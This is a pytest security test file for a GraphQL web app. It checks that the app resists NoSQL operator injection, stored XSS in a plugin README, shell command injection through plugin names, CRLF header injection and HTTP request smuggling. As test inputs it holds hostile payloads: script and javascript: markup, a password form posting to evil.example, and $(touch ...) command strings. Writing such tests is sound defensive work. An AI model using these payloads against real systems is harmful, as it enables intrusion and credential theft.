"""Input that means something to whatever it is handed to: MongoDB, HTML, a shell, HTTP."""

import asyncio
import json
from base64 import urlsafe_b64encode
from html.parser import HTMLParser
from pathlib import Path

import pytest

from app.catalog.plugin import Plugin, PluginProperties, plugin_key
from app.database import Database
from app.ontology.knowledge import Knowledge
from tests.e2e.writing import write
from tests.people import People
from tests.serving import Json, ServerProcess

OPERATORS = ('{"$ne": null}', '{"$gt": ""}', "$where", "';return true;//", ".*", "$$ROOT", "[$ne]")
LOOK_UPS = {
    "node": "node(id: $v) { id }",
    "thing": "thing(id: $v) { id }",
    "group by id": "group(id: $v) { id }",
    "group by slug": "group(slug: $v) { id }",
    "plugin by id": "plugin(id: $v) { id }",
    "plugin by name": "plugin(name: $v) { id }",
    "instance": "instance(id: $v) { id }",
    "execution": "execution(id: $v) { id }",
}
LISTS = {
    "things": "things(group: $g, after: $v) { nodes { id } }",
    "events": "events(group: $g, after: $v) { nodes { id } }",
    "groups": "groups(after: $v) { nodes { id } }",
    "plugins": "plugins(after: $v) { nodes { id } }",
}
POSITIONS: tuple[Json, ...] = (
    [{"$ne": None}],
    [{"$gt": ""}],
    [{"$where": "1"}],
    [],
    {"$or": []},
    "x",
    [[]],
)
MARKUP = """# Hello
<script>steal()</script><img src=x onerror=steal()><iframe src="javascript:steal()"></iframe>
<svg><script>steal()</script></svg><a href="javascript:steal()">a</a> [b](javascript:steal())
[c](data:text/html;base64,c3RlYWwoKQ==) <form action="https://evil.example"><input name="password">
</form><style>@import "https://evil.example"</style><p style="x" onclick="steal()" id="me">d</p>"""
ACTIVE = {"script", "style", "iframe", "svg", "form", "input", "object", "embed", "link", "meta"}


class Elements(HTMLParser):
    """What a browser would make of a text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags = set[str]()
        self.attributes = dict[str, str | None]()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.tags.add(tag)
        self.attributes.update(attrs)


@pytest.mark.parametrize("name", LOOK_UPS)
@pytest.mark.parametrize("operator", OPERATORS)
async def test_an_operator_in_a_text_finds_nothing(
    people: People, name: str, operator: str
) -> None:
    type_ = "String!" if "slug" in name or "name" in name else "ID!"
    answer = await people.owner.answer(f"query ($v: {type_}) {{ {LOOK_UPS[name]} }}", v=operator)
    assert (answer.get("data") or {}).get(name.split(maxsplit=1)[0]) is None
    codes = {error["extensions"]["code"] for error in answer.get("errors", [])}
    assert codes <= {"INVALID_INPUT", "NOT_FOUND"}


@pytest.mark.parametrize("name", LISTS)
@pytest.mark.parametrize("position", POSITIONS, ids=str)
async def test_a_cursor_of_ones_own_making_is_no_query(
    people: People, name: str, position: Json
) -> None:
    cursor = urlsafe_b64encode(json.dumps(position).encode()).decode()
    query = f"query ($g: ID, $v: String) {{ {LISTS[name]} }}"
    query = query if "$g" in LISTS[name] else query.replace("$g: ID, ", "")
    assert await people.owner.error_code(query, g=people.demo, v=cursor) == "INVALID_INPUT"


@pytest.mark.parametrize("properties", [{"$where": "1"}, {"a.b": 1}, {"$set": {"group": None}}])
async def test_a_field_of_stored_json_is_no_operator(people: People, properties: Json) -> None:
    given = {"group": people.demo, "type": "report", "name": "x", "properties": properties}
    assert (await write(people.owner, "createThing", **given))["code"] == "INVALID_INPUT"


async def test_values_of_stored_json_are_values(people: People) -> None:
    properties = {"a": "$group", "b": ["$$ROOT"], "c": {"d": "$where"}}
    given = {"group": people.demo, "type": "report", "name": "$name", "properties": properties}
    made = (await write(people.owner, "createThing", "thing { id name }", **given))["thing"]
    changed = await write(
        people.owner, "updateThing", "thing { name properties }", thing=made["id"], name="$$NOW"
    )
    assert changed["thing"] == {"name": "$$NOW", "properties": properties}


async def test_a_readme_is_shown_without_what_acts(people: People, database: Database) -> None:
    name = "plugin-with-a-hostile-readme"
    plugin = Plugin(name=name, properties=PluginProperties(title=name), unique_key=plugin_key(name))
    readme = Knowledge(type="document", source=plugin.id, text=MARKUP, metadata={"field": "readme"})
    for record in (plugin, readme):
        row = record.model_dump(exclude={"id", "revision_id"}) | {"_id": record.id}
        await database.collection(type(record)).insert_one(row)
    query = "query ($n: String) { plugin(name: $n) { readmeHtml } }"
    html = (await people.stranger.data(query, n=name))["plugin"]["readmeHtml"]
    assert "<h1>Hello</h1>" in html
    elements = Elements(html)
    assert elements.tags >= {"h1", "a", "img"}
    assert not elements.tags & ACTIVE
    assert elements.attributes.keys() == {"rel"}


async def test_a_command_in_a_name_is_not_run(people: People, public: ServerProcess) -> None:
    mark = public.data_dir / "pwned"
    for command in (f"$(touch {mark})", f"`touch {mark}`", f"x; touch {mark}", f"x\ntouch {mark}"):
        for given in ({"plugin": command}, {"plugin": "x", "version": command}):
            answer = await write(people.owner, "installPlugin", group=people.demo, **given)
            assert answer["code"] in ("PLUGIN_NOT_FOUND", "INVALID_INPUT")
        await people.owner.answer(
            "query ($v: String!) { searchPlugins(query: $v) { score } }", v=command
        )
    assert not Path(mark).exists()


@pytest.mark.parametrize("identifier", ["a%0d%0aset-cookie: x=1", "a\tb: c", "a" * 1_000])
async def test_a_header_that_is_given_back_adds_none(people: People, identifier: str) -> None:
    response = await people.stranger.http.post(
        "/graphql", json={"query": "{ __typename }"}, headers={"x-request-id": identifier}
    )
    assert "set-cookie" not in response.headers
    assert len(response.headers["x-request-id"]) <= 200


async def test_two_lengths_of_one_request_are_refused(public: ServerProcess) -> None:
    body = b'{"query": "{ __typename }"}'
    head = (
        f"POST /graphql HTTP/1.1\r\nHost: {public.url.removeprefix('http://')}\r\n"
        "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
        f"Content-Length: {len(body)}\r\nContent-Length: 3\r\n\r\n"
    )
    host, port = public.url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(head.encode() + body)
    assert (await reader.readline()).startswith(b"HTTP/1.1 400")
    writer.close()
    await writer.wait_closed()
